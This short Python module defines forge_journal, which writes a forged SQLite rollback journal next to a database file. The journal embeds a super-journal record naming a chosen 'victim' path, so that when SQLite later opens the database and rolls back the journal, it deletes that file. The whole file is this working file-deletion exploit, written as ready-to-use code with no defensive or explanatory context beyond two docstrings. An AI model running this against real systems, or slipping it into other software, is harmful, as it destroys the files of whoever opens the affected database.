"""A journal that makes SQLite, which rolls it back at the next look into a database, delete a file."""

from __future__ import annotations

import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_PENDING_BYTE = 0x40000000


def forge_journal(file: Path, victim: Path) -> None:
    """A journal with no page in it and the name of another journal, which is over once this one is rolled back."""
    page_size, pages = 16384, file.stat().st_size // 16384
    name = str(victim).encode()
    head = _MAGIC + struct.pack(">IIIII", 0, 12345, pages, 512, page_size)
    record = (
        struct.pack(">I", _PENDING_BYTE // page_size + 1) + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
    )
    file.with_name(f"{file.name}-journal").write_bytes(head.ljust(512, b"\0") + record)
